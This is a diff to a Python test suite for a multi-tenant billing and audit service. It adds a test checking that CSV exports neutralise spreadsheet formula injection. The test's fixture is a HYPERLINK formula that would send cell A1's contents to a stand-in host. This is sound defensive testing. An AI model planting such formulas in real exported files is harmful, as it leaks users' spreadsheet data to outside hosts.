@@ -200,11 +200,11 @@ def test_clients_cannot_manage_tenants_and_read_only_their_own_services(world: W
         tenants.services(world.conn, client, world.tenant2)
 
 
-def _smarket(world: World, tenant_id: int, active: bool = True) -> integrations.Integration:
+def _smarket(world: World, tenant_id: int, active: bool = True, description: str = "") -> integrations.Integration:
     branches = [r[0] for r in world.conn.execute("SELECT id FROM erp.filial WHERE tenant_id = %s", (tenant_id,))]
     return integrations.create(
         world.conn, AGENT, IntegrationInput(
-            tenant_id=tenant_id, description=f"Smarket {tenant_id}", type_code="smarket", active=active,
+            tenant_id=tenant_id, description=description or f"Smarket {tenant_id}", type_code="smarket", active=active,
             interval_minutes=60, branches=branches,
             config=[integrations.ConfigInput("token", "t0k3n"), integrations.ConfigInput("codigo_cliente", "C1")],
         ),
@@ -427,3 +427,25 @@ def test_the_audit_trail_is_searchable_and_exported(world: World) -> None:
     assert "t0k3n" not in "".join(lines)
     with pytest.raises(Forbidden):
         audit.search(world.conn, Principal("cliente1", ("Client",), False, ()), audit.Filters())
+
+
+FORMULA = '=HYPERLINK("http://exemplo.invalid/?"&A1;"clique")'
+
+
+def test_no_exported_cell_is_a_formula_a_spreadsheet_would_run(world: World) -> None:
+    """A description and a chain's name typed as formulas reach the billable and audit CSVs as text (a leading
+    `'`)."""
+    world.conn.execute("UPDATE integracao.tenant SET nome = %s WHERE id = %s", (FORMULA, world.tenant1))
+    integration = _smarket(world, world.tenant1, description=FORMULA)
+    manual_runs.request_runs(world.conn, AGENT, integration.id, "2026-10-01", "2026-10-02", FakeRuns(),
+                             today=date(2026, 11, 28))  # fmt: skip
+    found = billing.report(world.conn, AGENT, world.tenant1, datetime.now(SAO_PAULO).strftime("%Y-%m"))
+    with world.conn.transaction():
+        exports = [
+            "".join(billing.csv_lines(found)),
+            "".join(audit.csv_lines(world.conn, AGENT, audit.Filters(), "pt-BR")),
+        ]
+    for exported in exports:
+        cells = [cell for row in csv.reader(io.StringIO(exported), delimiter=";") for cell in row]
+        assert "'" + FORMULA in cells
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), cells
